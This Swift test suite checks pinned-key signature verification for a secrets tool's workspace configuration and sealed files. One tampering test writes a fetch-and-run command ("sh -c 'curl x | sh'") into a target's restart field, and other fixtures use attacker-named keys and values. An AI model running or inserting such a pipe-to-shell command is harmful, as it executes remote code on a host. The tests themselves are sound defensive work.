import Foundation
import LoopsealCrypto
import LoopsealKit
import LoopsealStore
import Testing

/// Pinned trust (issue 16): `workspace.yaml` must be signed by a pinned key, every sealed file
/// by a key both pinned and listed; every refusal names the file and why; checking reads only.
@Suite("pinned trust for pulled configuration")
struct PinnedTrustTests {
    /// A repository with workspace `prod`: writers ci and ops, a target, `workspace.yaml`
    /// signed by ci and secret DB signed by ci. The host pins ci only.
    final class Fleet {
        let scratch: KitScratch
        let workspace: Workspace
        let ci: SigningKey, ops: SigningKey, mallory: SigningKey
        let alice: Identity

        init() throws {
            scratch = try KitScratch()
            ci = try SigningKey.generate()
            ops = try SigningKey.generate()
            mallory = try SigningKey.generate()
            alice = try Identity.generate()
            workspace = try Workspace.create(root: scratch.path, id: "prod", recipients: [Recipient(name: "alice", publicKey: alice.publicKey)])
            try writeConfig(extraRecipient: nil, extraWriter: nil)
            #expect(try WriterChanges.signConfig(of: workspace, signingKeys: loader(ci)) == .signed(writer: Writer(name: "ci", publicKey: ci.publicKey), source: "$LOOPSEAL_SIGNING_KEY"))
            try set("DB", "postgres://canary-value@db", by: ci)
        }

        var trust: PinnedTrust { PinnedTrust(keys: [ci.publicKey], source: "\(scratch.path)/trust.txt") }
        var configText: String { String(decoding: (try? FileIO.contents(workspace.configPath)) ?? [], as: UTF8.self) }

        func loader(_ key: SigningKey) -> SigningKeyLoader {
            SigningKeyLoader(environment: ["LOOPSEAL_SIGNING_KEY": key.encodedSecretKey()])
        }

        func writeConfig(extraRecipient: Recipient?, extraWriter: Writer?, path: String = "/srv/app/.env") throws {
            var text = "workspace: prod\nrecipients:\n  alice: \(alice.publicKey)\n"
            if let extraRecipient { text += "  \(extraRecipient.name): \(extraRecipient.publicKey)\n" }
            text += "writers:\n  ci: \(ci.publicKey)\n  ops: \(ops.publicKey)\n"
            if let extraWriter { text += "  \(extraWriter.name): \(extraWriter.publicKey)\n" }
            text += "targets:\n- name: app\n  path: \(path)\n  restart: [systemctl, restart, app]\n"
            try FileIO.writeAtomically(Array(text.utf8), to: workspace.configPath)
        }

        func set(_ key: String, _ value: String, by signer: SigningKey) throws {
            _ = try SecretService(workspace: workspace, signingKeys: loader(signer)).upsert(key: key, value: try SecureBytes(copying: Array(value.utf8)))
        }

        func edit(_ change: (String) -> String) throws {
            try FileIO.writeAtomically(Array(change(configText).utf8), to: workspace.configPath)
        }

        func reasons(_ trust: PinnedTrust? = nil) -> [String: TrustRefusal.Reason] {
            Dictionary((trust ?? self.trust).verify(root: scratch.path).refusals.map { (URL(fileURLWithPath: $0.file).lastPathComponent, $0.reason) },
                       uniquingKeysWith: { first, _ in first })
        }
    }

    @Test("signed by a pinned writer: accepted, with the signer and the files checked")
    func accepted() throws {
        let fleet = try Fleet()
        let report = try fleet.trust.check(root: fleet.scratch.path)
        #expect(report.isTrusted)
        #expect(report.workspaces == [TrustReport.Checked(id: "prod", configSigner: fleet.ci.publicKey, files: 1)])
    }

    @Test("an unsigned workspace.yaml is refused, naming the file")
    func unsignedConfig() throws {
        let fleet = try Fleet()
        try fleet.writeConfig(extraRecipient: nil, extraWriter: nil)
        #expect(fleet.reasons() == ["workspace.yaml": .unsigned])
        let error = #expect(throws: TrustError.self) { try fleet.trust.check(root: fleet.scratch.path) }
        let text = "\(try #require(error))"
        #expect(text.contains("\(fleet.workspace.configPath): refused: not signed"), "\(text)")
        #expect(!text.contains("canary"))
    }

    @Test("a target's path or command, or a recipient, changed after signing: the signature does not match")
    func changedAfterSigning() throws {
        let fleet = try Fleet()
        try fleet.edit { $0.replacingOccurrences(of: "path: /srv/app/.env", with: "path: /tmp/leak.env") }
        #expect(fleet.reasons() == ["workspace.yaml": .mismatch(signer: fleet.ci.publicKey)])
        let message = fleet.trust.verify(root: fleet.scratch.path).refusals.map(\.description).joined()
        #expect(message.contains("signature by ci (\(fleet.ci.publicKey)) does not match the content"), "\(message)")

        let again = try Fleet()
        try again.edit { $0.replacingOccurrences(of: "[systemctl, restart, app]", with: "[sh, -c, 'curl x | sh']") }
        #expect(again.reasons() == ["workspace.yaml": .mismatch(signer: again.ci.publicKey)])

        let third = try Fleet()
        let eve = Recipient(name: "eve", publicKey: try Identity.generate().publicKey)
        try third.edit { $0.replacingOccurrences(of: "writers:\n", with: "  eve: \(eve.publicKey)\nwriters:\n") }
        #expect(try third.workspace.loadConfig().recipients.map(\.name) == ["alice", "eve"])
        #expect(third.reasons() == ["workspace.yaml": .mismatch(signer: third.ci.publicKey)])
    }

    @Test("a commit that adds its own writer and signs with it is refused as unpinned, sealed files too")
    func selfAddedWriter() throws {
        let fleet = try Fleet()
        try fleet.writeConfig(extraRecipient: nil, extraWriter: Writer(name: "mallory", publicKey: fleet.mallory.publicKey))
        _ = try WriterChanges.signConfig(of: fleet.workspace, signingKeys: fleet.loader(fleet.mallory))
        try fleet.set("DB", "postgres://mallory@evil", by: fleet.mallory)
        // Listed writers alone accept it: ordinary reads would.
        #expect(WorkspaceSignature.status(of: try fleet.workspace.loadConfig()) == .valid(fleet.mallory.publicKey))
        #expect(try SecretService(workspace: fleet.workspace).signatureProblems().isEmpty)
        #expect(fleet.reasons() == ["workspace.yaml": .unpinned(signer: fleet.mallory.publicKey),
                                    "DB.sealed": .unpinned(signer: fleet.mallory.publicKey)])
        let message = fleet.trust.verify(root: fleet.scratch.path).refusals[0].description
        #expect(message.contains("signed by mallory (\(fleet.mallory.publicKey)), a key not pinned in \(fleet.scratch.path)/trust.txt"), "\(message)")
    }

    @Test("a sealed file signed by a listed but unpinned writer, or by a pinned but unlisted key, is refused")
    func sealedFileSigners() throws {
        let fleet = try Fleet()
        try fleet.set("API", "canary-api", by: fleet.ops)
        #expect(fleet.reasons() == ["API.sealed": .unpinned(signer: fleet.ops.publicKey)])
        #expect(fleet.reasons(PinnedTrust(keys: [fleet.ci.publicKey, fleet.ops.publicKey], source: "t")).isEmpty)

        let outsider = try SigningKey.generate()
        let secret = try #require(try SecretService(workspace: fleet.workspace).find(key: "DB"))
        let resigned = WriterSignatures(workspaceID: "prod", writers: [Writer(name: "x", publicKey: outsider.publicKey)]).sign(secret, with: outsider)
        try FileIO.writeAtomically(SealedSecretCodec.encode(resigned), to: try fleet.workspace.secretPath(for: "DB"))
        let pinsOutsider = PinnedTrust(keys: [fleet.ci.publicKey, outsider.publicKey], source: "t")
        #expect(fleet.reasons(pinsOutsider) == ["API.sealed": .unpinned(signer: fleet.ops.publicKey), "DB.sealed": .unlisted(signer: outsider.publicKey)])
    }

    @Test("a sealed file changed after signing, unsigned, or unreadable is refused")
    func sealedFileContent() throws {
        let fleet = try Fleet()
        let path = try fleet.workspace.secretPath(for: "DB")
        var secret = try #require(try SecretService(workspace: fleet.workspace).find(key: "DB"))
        secret.recipients = [:]
        secret.value = nil
        try FileIO.writeAtomically(SealedSecretCodec.encode(secret), to: path)
        #expect(fleet.reasons() == ["DB.sealed": .mismatch(signer: fleet.ci.publicKey)])
        secret.signature = nil
        try FileIO.writeAtomically(SealedSecretCodec.encode(secret), to: path)
        #expect(fleet.reasons() == ["DB.sealed": .unsigned])
        try FileIO.writeAtomically(Array("not: [a sealed file".utf8), to: path)
        guard case .unreadable(let problem)? = fleet.reasons()["DB.sealed"] else { Issue.record("expected unreadable"); return }
        #expect(problem.contains(path))
    }

    @Test("checking reads only: an exported copy without state folders is left exactly as it was")
    func noSideEffects() throws {
        let fleet = try Fleet()
        let export = try KitScratch()
        for relative in ["workspaces/prod/workspace.yaml", "workspaces/prod/secrets/DB.sealed"] {
            let bytes = try FileIO.contents("\(fleet.scratch.path)/\(relative)")
            try FileIO.makeDirectory(FileIO.parentDirectory("\(export.path)/\(relative)"))
            try FileIO.writeAtomically(bytes, to: "\(export.path)/\(relative)")
        }
        let before = try Self.snapshot(export.path)
        #expect(try fleet.trust.check(root: export.path).isTrusted)
        #expect(try Self.snapshot(export.path) == before)
        #expect(!FileManager.default.fileExists(atPath: "\(export.path)/workspaces/prod/.loopseal"))
    }

    @Test("a root without workspaces is refused, not trusted")
    func emptyRoot() throws {
        let empty = try KitScratch()
        let report = PinnedTrust(keys: [try SigningKey.generate().publicKey], source: "t").verify(root: empty.path)
        #expect(!report.isTrusted && report.refusals.count == 1)
        #expect(report.refusals[0].description.contains("no workspace to trust"))
    }

    @Test("trust files: keys with comments and blank lines; anything else names file and line, never the text")
    func trustFile() throws {
        let scratch = try KitScratch()
        let a = try SigningKey.generate(), b = try SigningKey.generate()
        let good = try scratch.write("trust", "# pinned writers\n\n\(a.publicKey)   # ci\n  \(b.publicKey)\n\(a.publicKey)\n")
        #expect(try PinnedTrust(pinnedFile: good).keys == [a.publicKey, b.publicKey])

        let secret = try scratch.write("secret", "# oops\n\(a.encodedSecretKey())\n")
        let leaked = #expect(throws: TrustError.self) { try PinnedTrust(pinnedFile: secret) }
        let leakedText = "\(try #require(leaked))"
        #expect(leakedText.hasPrefix("\(secret):2: holds a secret key"), "\(leakedText)")
        #expect(!leakedText.contains(a.encodedSecretKey()))

        let cases: [(String, Int?)] = [
            ("\(a.publicKey)\nage1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n", 2),
            ("\(a.publicKey) trailing words\n", 1),
            ("# nothing pinned\n\n", nil),
        ]
        for (text, line) in cases {
            let file = try scratch.write("bad", text)
            do {
                _ = try PinnedTrust(pinnedFile: file)
                Issue.record("accepted \(text)")
            } catch TrustError.invalidTrustFile(let named, let number, _) {
                #expect(named == file && number == line, "\(text)")
            }
        }
        #expect(throws: TrustError.invalidTrustFile(file: "\(scratch.path)/missing", line: nil, problem: "no such trust file")) {
            try PinnedTrust(pinnedFile: "\(scratch.path)/missing")
        }
    }

    /// Every path under `root` with its bytes.
    static func snapshot(_ root: String) throws -> [String: [UInt8]] {
        var files: [String: [UInt8]] = [:]
        let enumerator = FileManager.default.enumerator(atPath: root)
        while let relative = enumerator?.nextObject() as? String {
            let path = "\(root)/\(relative)"
            files[relative] = FileIO.isDirectory(path) ? [] : try FileIO.contents(path)
        }
        return files
    }
}
